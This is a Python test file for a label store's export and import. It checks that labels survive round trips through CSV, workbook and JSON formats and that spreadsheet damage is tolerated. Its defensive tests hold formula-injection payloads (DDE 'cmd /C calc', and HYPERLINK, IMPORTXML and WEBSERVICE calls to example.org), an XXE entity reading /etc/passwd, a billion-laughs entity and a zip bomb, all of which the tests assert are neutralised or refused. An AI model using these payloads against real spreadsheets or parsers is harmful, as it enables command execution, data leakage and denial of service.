"""Labels out and back: the identity in every format, whatever the text; damage; traps."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from collabnlp.cells import guarded, unguarded
from collabnlp.errors import DataError
from collabnlp.identifiers import canonical_json, folded_hash, occurrences
from collabnlp.labels import entry_lines, label_studio, prodigy
from collabnlp.labels.database import LabelDatabase
from collabnlp.labels.export_lines import ExportLine, export_lines
from collabnlp.labels.fields import FIELDS
from collabnlp.labels.queue_store import QueueStore
from collabnlp.labels.returning import Plan, Returned, plan
from collabnlp.labels.tabular import Grid, columns, read_csv, returned_rows, write_csv
from collabnlp.labels.workbook import write_workbook
from collabnlp.labels.workbook_reading import NoWorkbook, UnsafeWorkbook, read_workbook
from collabnlp.register import EntryType, load_register
from collabnlp.schema import (
    ActorTier,
    Annotation,
    Basis,
    DocumentInfo,
    Entry,
    Judgement,
    Level,
    Match,
    Partner,
    Reason,
    Role,
    Shown,
    StoredUnit,
    Suggestion,
)
from collabnlp.workflows.exchanging import export_labels, file_format, import_labels

SHA = "a" * 64
NOW = "2026-11-22T12:00:00Z"
CODES = frozenset({"DFT", "HMT", "DFE"})
TEXTS = [
    "We will work with councils to deliver the ferry standard.",
    "The harbour was deepened in the spring of that year.",
    "Mayors will chair the panel on berths, and set its priorities.",
    "Ministers must have regard to the island plan.",
    "Ministers and clerks will agree the winter timetable together.",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?x="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=IMPORTXML(CONCAT("http://example.org/", A2), "//a")',
    '=WEBSERVICE("http://example.org/")',
    '=DDE("cmd";"/C calc";"x")',
    "=1+1;=2+2",
    "text;=1+1",
    "text\n=1+1",
    "text\t@SUM(A1)",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "＝1+1",
    "＋1+1",
    "-1",
    "+44 20 7946 0000",
    "@mayor",
    "=",
]


def entry(text: str = TEXTS[0], level: Level = Level.SUPPORT, **given: Any) -> Entry:
    """A reading of a text, as the store keeps it."""
    none = level is Level.NONE
    judgement = Judgement(
        level=level,
        partners=() if none else (Partner.SUBNATIONAL,),
        departments=() if none else ("DFT",),
        dept_basis=None if none else Basis.INFERRED,
        actor_tier=None if none else ActorTier.NATIONAL,
    )
    of: dict[str, Any] = {"reader": "reader-1", "role": Role.FIRST, "note": "", "sure": True}
    rest = {name: given.pop(name) for name in list(given) if name in ("time", "seconds", "text")}
    of |= given
    unit_hash, occurrence = next(occurrences([text]))
    annotation = Annotation(
        **{
            **{"document": "ferries", "sha256": SHA, "unit_hash": unit_hash},
            **{"occurrence": occurrence, "folded": folded_hash(text), "judgement": judgement},
            **{"date": "2026-11-20", "codebook": "1.2", **of},
        }
    )
    return Entry(annotation=annotation, **{"text": text, "time": "2026-11-20T08:30:00Z", **rest})


def kept(database: LabelDatabase, texts: Iterable[str] = TEXTS) -> None:
    """Keep the units of a document, so that they have a place."""
    texts = list(texts)
    units = [
        StoredUnit(
            **{"document": "ferries", "sha256": SHA, "unit_hash": key[0], "occurrence": key[1]},
            **{"index": at, "text": text, "own_text": text, "lead_in": None, "boxes": ()},
            **{"headings": ("Ferries", "Berths > north"), "page": at + 1, "page_label": f"{at}"},
            **{"provision": "4.10", "kind": "paragraph", "region": "body"},
        )
        for at, (text, key) in enumerate(zip(texts, occurrences(texts), strict=True))
    ]
    info = DocumentInfo(id="ferries", title="=Ferries", sha256=SHA)
    QueueStore(database).add_document(info, units)


@pytest.fixture
def database(tmp_path: Path) -> LabelDatabase:
    """A store with the texts above read once, and the first of them twice."""
    made = LabelDatabase(tmp_path / "labels.sqlite")
    kept(made)
    made.append([entry(text, level) for text, level in zip(TEXTS, Level, strict=False)])
    made.append([entry(TEXTS[0], Level.LEAD, reader="reader-2", role=Role.SECOND)])
    return made


def csv_of(database: LabelDatabase, **of: Any) -> bytes:
    stream = io.BytesIO()
    write_csv(export_lines(database, **of), stream)
    return stream.getvalue()


def xlsx_of(database: LabelDatabase) -> bytes:
    stream = io.BytesIO()
    write_workbook(export_lines(database), stream)
    return stream.getvalue()


def back(database: LabelDatabase, returned: list[Returned], **given: Any) -> Plan:
    of: dict[str, Any] = {"codebook": "1.2", "time": NOW, "departments": CODES, **given}
    return plan(returned, database, **of)


def told(made: Plan) -> list[str]:
    return [str(problem) for problem in made.problems]


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def saved(rows: list[list[str]], divider: str = ",", encoding: str = "utf-8") -> bytes:
    """As a spreadsheet saves it: quotes only where they are needed."""
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=divider, lineterminator="\r\n").writerows(rows)
    return text.getvalue().encode(encoding, "replace")


# -- the identity, for any text and any judgement

_AWKWARD = st.one_of(
    st.text(max_size=60),
    st.sampled_from(
        ["=1+1", "+1", "-x", "@a", "'q", "''=", "\ta", "مرحبا بالعالم", "👩‍🚀 naïve", 'a"b;c,d']
    ),
    st.text(alphabet="'=+-@\t\r\n;,\" ab_x000D", max_size=20),
    st.builds(lambda word, times: word * times, st.sampled_from(["long ", "=x"]), st.just(9000)),
)
_COMMITMENTS = st.builds(
    lambda level, partners, codes, basis, tier: Judgement(
        level=level,
        partners=tuple(it for it in Partner if it in partners),
        departments=tuple(sorted(codes)),
        dept_basis=basis if codes else None,
        actor_tier=tier,
    ),
    st.sampled_from(list(Level)[1:]),
    st.sets(st.sampled_from(list(Partner))),
    st.sets(st.from_regex(r"[A-Z]{2,6}", fullmatch=True), max_size=3),
    st.sampled_from([None, *Basis]),
    st.sampled_from([None, *ActorTier]),
)
_JUDGEMENTS = st.one_of(st.just(Judgement(level=Level.NONE)), _COMMITMENTS)


@st.composite
def _entries(draw: Callable[..., Any]) -> Entry:
    text = draw(_AWKWARD.filter(lambda it: bool(it.strip())))
    unit_hash, occurrence = next(occurrences([text]))
    shown = draw(st.sampled_from(list(Shown)))
    reason = draw(st.sampled_from([None, *Reason]))
    return Entry(
        annotation=Annotation(
            document=draw(st.sampled_from(["ferries", "=ports"])),
            sha256=SHA,
            unit_hash=unit_hash,
            occurrence=occurrence,
            folded=folded_hash(text),
            judgement=draw(_JUDGEMENTS),
            reader=draw(st.text(min_size=1, max_size=12)),
            role=draw(st.sampled_from(list(Role))),
            date=draw(st.sampled_from(["2026-11", "2026-11-20"])),
            codebook=draw(st.sampled_from(["1.2", "=2"])),
            sure=draw(st.booleans()),
            match=draw(st.sampled_from(list(Match))),
            sources=tuple(draw(st.lists(st.text(max_size=5), max_size=2))),
            note=draw(_AWKWARD),
            shown=shown,
        ),
        text=text,
        time=draw(st.sampled_from(["", "2026-11-20T08:30:00Z"])),
        seconds=draw(st.none() | st.floats(0, 1e6)),
        model="b" * 64 if shown is Shown.SUGGESTION else "",
        reason=reason,
        probability=0.25 if reason is Reason.RANDOM else None,
        request=draw(st.just("") | st.text(max_size=8)),
    )


@given(st.text(alphabet="'=;\t\r\n+a-@＝ x"))
@settings(max_examples=300, deadline=None)
def test_a_guarded_cell_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@given(st.lists(_entries(), min_size=1, max_size=3, unique_by=lambda it: it.annotation.key))
@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
def test_export_then_import_is_the_identity(
    tmp_path_factory: pytest.TempPathFactory, entries: list[Entry]
) -> None:
    requests = {it.request for it in entries if it.request}
    entries = [replace(it, request="") for it in entries] if len(requests) > 1 else entries[:1]
    folder = tmp_path_factory.mktemp("identity")
    database = LabelDatabase(folder / "labels.sqlite")
    database.append(entries)
    for form, ending in (
        *(("csv", "csv"), ("xlsx", "xlsx"), ("jsonl", "jsonl")),
        *(("prodigy", "jsonl"), ("label-studio", "json")),
    ):
        path = folder / f"{form}.{ending}"
        with path.open("wb") as stream:
            export_labels(database, stream, format=form)
        assert file_format(path) == form
        # Into the store it came from: nothing happens, and nobody need say who they are.
        result = import_labels(database, path, format=form, codebook="1.2", time=NOW)
        assert told(result.plan) == [], form
        assert (result.plan.entries, result.plan.unchanged) == ([], len(entries)), form
        # Into an empty one: every entry as it was, where the format carries it.
        other = LabelDatabase(folder / f"{form}.sqlite")
        result = import_labels(other, path, format=form, codebook="1.2", time=NOW)
        if form in ("csv", "xlsx"):
            assert len(result.plan.problems) == len(entries)
            continue
        assert told(result.plan) == [], form
        restored = sorted((it for _, it in other.entries()), key=lambda it: it.id)
        assert restored == sorted(entries, key=lambda it: it.id), form


# -- what a person changes


def edited(rows: list[list[str]], row: int, **cells: str) -> list[list[str]]:
    """The table with cells of one row (from 2, as a spreadsheet counts) changed."""
    header = rows[0]
    made = [list(it) for it in rows]
    for name, cell in cells.items():
        made[row - 1][header.index(name)] = cell
    return made


def imported(database: LabelDatabase, data: bytes, **given: Any) -> Plan:
    return back(database, returned_rows(read_csv(data, "x.csv"), "x.csv"), **given)


def test_a_changed_row_is_a_correction_by_its_person(database: LabelDatabase) -> None:
    rows = edited(rows_of(csv_of(database)), 4, level="Co-create", partners="Business; subnational")
    made = imported(database, saved(rows), reader="ann")
    assert told(made) == []
    (one,) = made.entries
    record = one.annotation
    assert (record.reader, record.role, record.shown) == ("ann", Role.REVIEWED, Shown.READINGS)
    assert (record.date, one.time, one.supersedes) == ("2026-11-22", NOW, "")
    assert record.judgement.level is Level.CO_CREATE
    assert record.judgement.partners == (Partner.SUBNATIONAL, Partner.BUSINESS)
    assert record.judgement.departments == ("DFT",)
    assert made.unchanged == 5
    before = len(database.in_force())
    database.append(made.entries)
    # What others read stands beside it.
    assert len(database.in_force()) == before + 1
    # The same file again: said before.
    again = imported(database, saved(rows), reader="ann")
    assert (told(again), again.entries, again.already, again.unchanged) == ([], [], 1, 5)
    # On second thoughts: only their own gives way.
    later = imported(database, saved(edited(rows, 4, level="lead")), reader="ann")
    assert [it.supersedes for it in later.entries] == [one.id]
    database.append(later.entries)
    # Somebody else, in a file that was exported before that: beside it.
    other = imported(database, saved(rows), reader="ben")
    assert [it.supersedes for it in other.entries] == [""]


def test_rows_that_were_overtaken_are_told(database: LabelDatabase) -> None:
    first = imported(
        database, saved(edited(rows_of(csv_of(database)), 4, level="lead")), reader="ann"
    )
    database.append(first.entries)
    rows = rows_of(csv_of(database, reader="ann"))
    assert len(rows) == 2
    database.append(
        imported(database, saved(edited(rows, 2, level="explore")), reader="ann").entries
    )
    made = imported(database, saved(edited(rows, 2, level="support")), reader="ben")
    assert told(made) == [
        "row 2, id: this reading was corrected since it was exported: export again"
    ]


_PROBLEMS: list[tuple[str, dict[str, str], str]] = [
    ("level", {"level": "suport"}, "row 4, level: 'suport' is none of none, explore,"),
    ("no level", {"level": " "}, "row 4, level: the level is empty"),
    ("partner", {"partners": "councils"}, "row 4, partners: 'councils' is none of subnational"),
    ("department", {"departments": "DFT; DFX"}, "row 4, departments: 'DFX' is no department"),
    ("departments", {"departments": "XX, YY"}, "row 4, departments: 'XX', 'YY' are no"),
    (
        "none with partners",
        {"level": "none", "partners": "international"},
        "row 4, partners: a none has no partners",
    ),
    ("basis", {"dept_basis": "guessed"}, "row 4, dept_basis: 'guessed' is none of"),
    ("tier", {"actor_tier": "local"}, "row 4, actor_tier: 'local' is none of national"),
    ("sure", {"sure": "perhaps"}, "row 4, sure: 'perhaps' is neither yes nor no"),
    ("text", {"text": "Another sentence."}, "row 4, text: the text was changed"),
    ("no text", {"text": ""}, "row 4, text: the text was changed"),
    ("id", {"id": "c" * 64}, "row 4, id: no reading of the store has this id"),
    ("id that is none", {"id": "=1+1"}, "row 4, id: no reading of the store has this id"),
]


def test_a_level_made_none_takes_what_stood_beside_it_along(database: LabelDatabase) -> None:
    made = imported(
        database, saved(edited(rows_of(csv_of(database)), 4, level="none")), reader="ann"
    )
    assert not made.problems
    (entry,) = made.entries
    assert entry.annotation.judgement == Judgement(level=Level.NONE)


@pytest.mark.parametrize(
    ("cells", "what"), [it[1:] for it in _PROBLEMS], ids=[it[0] for it in _PROBLEMS]
)
def test_what_is_wrong_is_named_by_row_and_column(
    database: LabelDatabase, cells: dict[str, str], what: str
) -> None:
    made = imported(database, saved(edited(rows_of(csv_of(database)), 4, **cells)), reader="ann")
    assert len(made.problems) == 1
    assert told(made)[0].startswith(what)


def test_all_problems_are_told_at_once_and_nothing_is_imported(
    database: LabelDatabase, tmp_path: Path
) -> None:
    rows = rows_of(csv_of(database))
    rows = edited(rows, 2, level="hardly", partners="all", departments="ZZZ")
    rows = edited(rows, 4, level="lead")
    rows.append(list(rows[4]))
    path = tmp_path / "x.csv"
    path.write_bytes(saved(rows))
    before = database.sequence
    result = import_labels(database, path, format="csv", reader="ann", codebook="1.2", time=NOW)
    assert sorted(told(result.plan)) == [
        "row 2, departments: 'ZZZ' is no department of the register",
        "row 2, level: 'hardly' is none of none, explore, support, have_regard, co_create, lead",
        "row 2, partners: 'all' is none of subnational, devolved, public_body, business, "
        "civil_society, international",
        "row 8, id: the same reading as in row 5",
    ]
    assert database.sequence == before


def test_a_change_needs_its_person(database: LabelDatabase) -> None:
    made = imported(database, saved(edited(rows_of(csv_of(database)), 4, level="lead")))
    assert told(made) == ["row 4: something was changed: say by whom, with --reader"]


def test_two_rows_of_a_unit_may_not_contradict_each_other(database: LabelDatabase) -> None:
    rows = rows_of(csv_of(database))
    assert rows[1][rows[0].index("text")] == rows[2][rows[0].index("text")]
    both = edited(edited(rows, 2, level="explore", partners="devolved"), 3, level="co_create")
    assert told(imported(database, saved(both), reader="ann")) == [
        "row 3, level: row 2 says otherwise of the same unit"
    ]


def test_new_rows_find_their_unit_and_removed_rows_do_nothing(database: LabelDatabase) -> None:
    rows = rows_of(csv_of(database))
    header = rows[0]

    def row(**cells: str) -> list[str]:
        return [cells.get(name, "") for name in header]

    kept_rows = [header, *rows[3:]]
    made = imported(
        database,
        saved([*kept_rows, row(text=f"  {TEXTS[0].upper()} ", level="3", note="mine")]),
        reader="ann",
    )
    assert told(made) == []
    (one,) = made.entries
    assert one.annotation.judgement == Judgement(level=Level.HAVE_REGARD)
    assert (one.annotation.note, one.annotation.document, one.text) == ("mine", "ferries", TEXTS[0])
    assert (made.added["ann"], made.bare) == (1, 1)
    made = imported(
        database, saved([*kept_rows, row(text="Never printed.", level="lead")]), reader="ann"
    )
    assert told(made) == ["row 6, text: no unit that is kept in the store has this text"]
    made = imported(database, saved([*kept_rows, row(level="lead")]), reader="ann")
    assert told(made) == ["row 6, text: neither an id nor a text"]


# -- what spreadsheets do to files


def _semicolons(rows: list[list[str]]) -> bytes:
    return b"\xef\xbb\xbf" + saved(rows, ";")


def _german_excel(rows: list[list[str]]) -> bytes:
    rows = edited(rows, 2, sure="WAHR")
    return saved(rows, ";", "cp1252")


def _days_turned(rows: list[list[str]]) -> bytes:
    at = rows[0].index("date")
    return saved(
        [[*row[:at], "20/11/2026", *row[at + 1 :]] if n else row for n, row in enumerate(rows)]
    )


def _quotes_and_blanks(rows: list[list[str]]) -> bytes:
    at = rows[0].index("text")
    for row in rows[1:]:
        row[at] = row[at].replace(" will ", "  will\n").replace("-", "–") + " "
    return saved(rows)


def _sorted(rows: list[list[str]]) -> bytes:
    return saved([rows[0], *sorted(rows[1:], key=lambda row: row[5], reverse=True)])


def _columns_moved(rows: list[list[str]]) -> bytes:
    return saved([["mine", *reversed(row), ""] for row in rows])


def _columns_dropped(rows: list[list[str]]) -> bytes:
    wanted = [rows[0].index(name) for name in ("id", "level", "note")]
    return saved([[row[at] for at in wanted] for row in rows])


def _short_rows(rows: list[list[str]]) -> bytes:
    return saved([*rows, [], [""] * 30])


def _headings_typed(rows: list[list[str]]) -> bytes:
    return saved([[f" {name.replace('_', ' ').title()} " for name in rows[0]], *rows[1:]])


_DAMAGE: list[Callable[[list[list[str]]], bytes]] = [
    lambda rows: saved(rows),
    _semicolons,
    lambda rows: saved(rows, "\t", "utf-16"),
    lambda rows: b"sep=;\r\n" + saved(rows, ";"),
    _german_excel,
    _days_turned,
    _quotes_and_blanks,
    _sorted,
    _columns_moved,
    _columns_dropped,
    _short_rows,
    _headings_typed,
    lambda rows: saved(edited(rows, 2, sure="TRUE", page="0.0", provision="4.1")),
    lambda rows: saved(edited(rows, 2, sure="1", id=f" {rows[1][rows[0].index('id')]} ")),
    lambda rows: saved(edited(rows, 4, partners=" Subnational ;", departments="dft")),
    lambda rows: saved(edited(rows, 4, level=" EXPLORE ")),
    lambda rows: saved(rows).replace(b"\r\n", b"\n"),
]


@pytest.mark.parametrize("damage", _DAMAGE, ids=range(len(_DAMAGE)))
def test_a_file_saved_by_a_spreadsheet_is_unchanged(
    database: LabelDatabase, damage: Callable[[list[list[str]]], bytes]
) -> None:
    notes = ["", "007", "2026-11-20", "it’s  “odd” →", "=1+1", "'tis", "1,5", "a\nb"]
    database.append([entry(TEXTS[1], reader=f"r{n}", note=note) for n, note in enumerate(notes)])
    data = damage(rows_of(csv_of(database)))
    made = imported(database, data)
    assert told(made) == []
    assert (made.unchanged, made.entries) == (14, [])


@pytest.mark.parametrize(
    ("note", "cell"),
    [
        ("007", "7"),
        ("2026-11-20", "20/11/2026"),
        ("1.50", "1,5"),
        ("a → b", "a ? b"),
        ("two  blanks", "two blanks"),
        ("“odd”", '"odd"'),
    ],
)
def test_a_note_that_a_spreadsheet_turned_is_unchanged(
    database: LabelDatabase, note: str, cell: str
) -> None:
    database.append([entry(TEXTS[1], Level.SUPPORT, reader="reader-3", note=note)])
    rows = rows_of(csv_of(database, reader="reader-3"))
    encoding = "cp1252" if "?" in cell else "utf-8"
    # A sign that is no UTF-8 shows in which set the file was saved.
    data = saved(edited(rows, 2, note=cell, headings="Fähren"), encoding=encoding)
    assert imported(database, data).entries == []


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"", "is empty"),
        (b"document,text\r\na,b\r\n", "no column named level"),
        (b"level,level,id\r\n", "has the column level twice"),
        (b"text,level,text_hash\r\n", "no column named id"),
        (b"\xff\xfea", "is no text"),
    ],
)
def test_a_table_that_is_not_ours_is_refused(data: bytes, what: str) -> None:
    with pytest.raises(DataError, match=what):
        returned_rows(read_csv(data, "x.csv"), "x.csv")


def test_past_states_and_the_deciding_reading(database: LabelDatabase) -> None:
    snapshot = database.snapshot(name="before")
    change = imported(
        database, saved(edited(rows_of(csv_of(database)), 2, note="seen")), reader="ann"
    )
    database.append(change.entries)
    assert len(export_lines(database)) == 7
    assert len(export_lines(database, at=snapshot.digest[:8])) == 6
    assert len(export_lines(database, at="2026-11-21")) == 6
    assert len(export_lines(database, at="2026-11-22T12:00:00Z")) == 7
    resolved = export_lines(database, resolved=True)
    assert len(resolved) == 5
    first = next(line for line in resolved if line.text == TEXTS[0])
    assert (first.entry.annotation.reader, first.standing, first.readings) == ("ann", "reviewed", 3)
    assert [line.text for line in resolved] == TEXTS
    stream = io.BytesIO()
    write_csv(resolved, stream, resolved=True)
    assert rows_of(stream.getvalue())[0] == columns(resolved=True)
    made = imported(database, stream.getvalue())
    assert (told(made), made.unchanged) == ([], 5)


# -- nothing runs


@pytest.mark.parametrize("payload", FORMULAS, ids=range(len(FORMULAS)))
def test_no_cell_runs(database: LabelDatabase, payload: str) -> None:
    text = f"{payload} We will meet councils."
    kept(database, [*TEXTS, text])
    database.append([entry(text, note=payload, reader=payload, document="ferries")])
    data = csv_of(database)
    for row in rows_of(data):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell
    # Divided by semicolons instead, as other countries' spreadsheets do.
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"):
        for cell in row[1:]:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    book = xlsx_of(database)
    found = set()
    for sheet in load_workbook(io.BytesIO(book)).worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type in ("s", "inlineStr", "n"), cell.value
                assert cell.data_type != "n" or cell.value is None
                found.add(cell.value)
    assert any(isinstance(it, str) and payload.strip() in it for it in found)
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        assert not any(b"<f>" in archive.read(it) for it in archive.namelist())
        assert not any("externalLink" in it or "vba" in it for it in archive.namelist())
    for returned in (
        returned_rows(read_csv(data, "x.csv"), "x.csv"),
        returned_rows(read_workbook(book, "x.xlsx"), "x.xlsx"),
    ):
        made = back(database, returned)
        assert (told(made), made.unchanged) == ([], 7)


# -- workbooks


def changed_book(data: bytes, change: Callable[[Any], None]) -> bytes:
    book = load_workbook(io.BytesIO(data))
    change(book)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def book_back(database: LabelDatabase, data: bytes, **given: Any) -> Plan:
    return back(database, returned_rows(read_workbook(data, "x.xlsx"), "x.xlsx"), **given)


def test_a_workbook_offers_choices_and_is_equal_for_equal_labels(database: LabelDatabase) -> None:
    data = xlsx_of(database)
    assert data == xlsx_of(database)
    book = load_workbook(io.BytesIO(data))
    sheet, explained = book.worksheets
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref
    offered = {it.formula1 for it in sheet.data_validations.dataValidation if it.type == "list"}
    assert '"none,explore,support,have_regard,co_create,lead"' in offered
    assert len(offered) == 4
    said = {row[0].value: row[1].value for row in explained.iter_rows()}
    assert set(columns(resolved=False)) <= set(said)
    assert set(map(str, Level)) <= set(said)


def _resaved(book: Any) -> None:
    """What LibreOffice does: formats of whole columns, true dates and numbers, other sheets."""
    import datetime

    sheet = book["readings"]
    names = [cell.value for cell in sheet[1]]
    book.move_sheet("explained", -1)
    for row in sheet.iter_rows(min_row=2):
        row[names.index("date")].value = datetime.datetime(2026, 11, 20)
        row[names.index("page")].value = 3.0
        row[names.index("sure")].value = True
    sheet.column_dimensions["B"].hidden = True
    sheet.insert_cols(1)
    sheet["A1"] = "my own"
    sheet["A2"] = "=B2&C2"
    sheet["A1048500"].number_format = "0.00"


def test_a_workbook_saved_elsewhere_is_unchanged(database: LabelDatabase) -> None:
    made = book_back(database, changed_book(xlsx_of(database), _resaved))
    assert (told(made), made.unchanged, made.entries) == ([], 6, [])


def test_levels_changed_in_a_workbook_are_corrections(database: LabelDatabase) -> None:
    def change(book: Any) -> None:
        sheet = book["readings"]
        names = [cell.value for cell in sheet[1]]
        level = names.index("level") + 1
        sheet.cell(4, level).value = "lead"
        sheet.cell(6, level).value = 5
        sheet.cell(6, names.index("sure") + 1).value = False

    made = book_back(database, changed_book(xlsx_of(database), change), reader="ann")
    assert told(made) == []
    assert [it.annotation.level for it in made.entries] == [Level.LEAD, Level.LEAD]
    assert [it.annotation.sure for it in made.entries] == [True, False]
    assert made.moves == {("explore", "lead"): 1, ("have_regard", "lead"): 1}


def test_a_formula_where_a_label_should_be_is_named(database: LabelDatabase) -> None:
    def change(book: Any) -> None:
        sheet = book["readings"]
        names = [cell.value for cell in sheet[1]]
        sheet.cell(3, names.index("level") + 1).value = '=IF(TRUE,"lead","none")'

    made = book_back(database, changed_book(xlsx_of(database), change), reader="ann")
    assert told(made) == ["row 3, level: a formula: put its value in its place"]


def rebuilt(data: bytes, **parts: bytes) -> bytes:
    """A workbook with some parts (by the end of their names) replaced."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            key = Path(name).stem.replace("[", "").replace("]", "")
            new.writestr(name, parts.pop(key, old.read(name)))
        for key, part in parts.items():
            new.writestr(f"xl/media/{key}.bin", part)
    return stream.getvalue()


_XML = b'<?xml version="1.0" encoding="UTF-8"?>'
_MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _sheet_of(start: bytes, row: bytes, text: bytes) -> bytes:
    """A sheet of one cell."""
    cell = b'<c r="A%s" t="inlineStr"><is><t>%s</t></is></c>' % (row, text)
    data = b'<sheetData><row r="%s">%s</row></sheetData>' % (row, cell)
    return _XML + start + b"<worksheet " + _MAIN + b">" + data + b"</worksheet>"


_XXE = _sheet_of(b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"1", b"&x;")
_ENTITIES = b'<!DOCTYPE sst [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
_LAUGHS = _XML + _ENTITIES + b"<sst " + _MAIN + b">&b;</sst>"
_FAR = _sheet_of(b"", b"999999999", b"x")
_WIDE = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a []><worksheet/>'
_WIDE_CHARACTERS = _WIDE.encode("utf-16")
_OTHER_SET = b'<?xml version="1.0" encoding="cp037"?><worksheet/>'


@pytest.mark.parametrize(
    ("parts", "what"),
    [
        ({"sheet1": _XXE}, "declares entities"),
        ({"sharedStrings": _LAUGHS}, "declares entities"),
        ({"styles": _XML + b" " * 70000 + b"<!DOCTYPE styleSheet []><styleSheet/>"}, "entities"),
        ({"sheet1": _FAR}, "beyond 1,048,576"),
        ({"sheet1": _WIDE_CHARACTERS}, "not in UTF-8"),
        ({"sheet1": _OTHER_SET}, "not in UTF-8"),
        ({"bomb": b"0" * (40 << 20)}, "is a bomb"),
    ],
    ids=["xxe", "laughs", "late doctype", "far row", "utf-16", "ebcdic", "bomb"],
)
def test_traps_in_workbooks_are_refused(
    database: LabelDatabase, parts: dict[str, bytes], what: str
) -> None:
    with pytest.raises(UnsafeWorkbook, match=what):
        read_workbook(rebuilt(xlsx_of(database), **parts), "x.xlsx")


def _half(data: bytes) -> bytes:
    return data[: len(data) // 2]


@pytest.mark.parametrize(
    "damage",
    [
        _half,
        lambda data: b"",
        lambda data: b"level,id\r\n",
        lambda data: b"\xd0\xcf\x11\xe0" + data,
        lambda data: rebuilt(data, workbook=b"<workbook/>"),
        lambda data: rebuilt(data, sheet1=b"<worksheet"),
        lambda data: data[:200] + b"\0" * 50 + data[250:],
    ],
    ids=["cut", "empty", "csv", "old", "no sheets", "broken", "holes"],
)
def test_files_that_are_no_workbooks_are_named(
    database: LabelDatabase, damage: Callable[[bytes], bytes]
) -> None:
    with pytest.raises(NoWorkbook, match=r"x\.xlsx|no sheet"):
        read_workbook(damage(xlsx_of(database)), "x.xlsx")


def test_a_cell_far_to_the_right_takes_no_memory(database: LabelDatabase) -> None:
    def change(book: Any) -> None:
        book["readings"]["XFD300000"] = None
        book["readings"]["XFD5"] = "far"

    grid: Grid = read_workbook(changed_book(xlsx_of(database), change), "x.xlsx")
    assert max(len(row) for _, row, _ in grid.rows) < 40


# -- whole entries


def history(database: LabelDatabase) -> bytes:
    stream = io.BytesIO()
    export_labels(database, stream, format="jsonl", history=True)
    return stream.getvalue()


def test_a_store_is_built_again_from_its_history(database: LabelDatabase, tmp_path: Path) -> None:
    first = database.snapshot(name="first", time=NOW)
    changed = imported(
        database, saved(edited(rows_of(csv_of(database)), 4, level="lead")), reader="ann"
    )
    database.append(changed.entries)
    (mine,) = changed.entries
    database.append([replace(mine, supersedes=mine.id, withdrawn=True, time=NOW)])
    last = database.snapshot(name="last", time=NOW)
    path = tmp_path / "history.jsonl"
    path.write_bytes(history(database))
    other = LabelDatabase(tmp_path / "other.sqlite")
    result = import_labels(other, path, format="jsonl", codebook="1.2", time=NOW)
    assert told(result.plan) == []
    assert (result.plan.restored, result.snapshots) == (8, (1, 0))
    assert list(other.entries()) == list(database.entries())
    assert other.snapshots() == database.snapshots()
    # The withdrawal left what was there before: one state, one digest.
    assert first.digest == last.digest
    assert other.problems() == []
    assert history(other) == history(database)
    # Into a store that has it all: nothing.
    again = import_labels(other, path, format="jsonl", codebook="1.2", time=NOW)
    assert (again.plan.entries, again.plan.unchanged) == ([], 8)


def test_entries_without_their_past_are_refused(database: LabelDatabase, tmp_path: Path) -> None:
    one = replace(entry(TEXTS[2], Level.LEAD), supersedes="d" * 64)
    path = tmp_path / "x.jsonl"
    path.write_bytes(entry_lines.entry_line(one))
    other = LabelDatabase(tmp_path / "other.sqlite")
    result = import_labels(other, path, format="jsonl", codebook="1.2", time=NOW)
    assert told(result.plan) == [
        "line 1, id: the reading that it corrects is not in the store: export with --history"
    ]


def test_a_changed_line_is_a_correction_unless_more_was_changed(
    database: LabelDatabase, tmp_path: Path
) -> None:
    stream = io.BytesIO()
    export_labels(database, stream, format="jsonl")
    rows = [json.loads(line) for line in stream.getvalue().splitlines()]
    rows[4]["annotation"]["level"] = "lead"
    path = tmp_path / "x.jsonl"

    def write() -> None:
        path.write_bytes(b"".join(canonical_json(row) + b"\n" for row in rows))

    write()
    of: dict[str, Any] = {"format": "jsonl", "codebook": "1.2", "time": NOW, "dry_run": True}
    made = import_labels(database, path, reader="ann", **of).plan
    assert [(it.annotation.level, it.annotation.reader) for it in made.entries] == [
        (Level.LEAD, "ann")
    ]
    assert database.sequence == 6
    rows[4]["annotation"]["reader"] = "somebody"
    write()
    made = import_labels(database, path, reader="ann", **of).plan
    assert told(made) == ["line 5: more than its labels was changed"]


# -- Prodigy


def prodigy_rows(database: LabelDatabase) -> list[dict[str, Any]]:
    lines = export_lines(database, suggested=True)
    return [json.loads(json.dumps(prodigy.task(line))) for line in lines]


def prodigy_back(database: LabelDatabase, rows: list[dict[str, Any]], **given: Any) -> Plan:
    returned, _ = prodigy.returned_tasks(enumerate(rows, 1))
    return back(database, returned, **given)


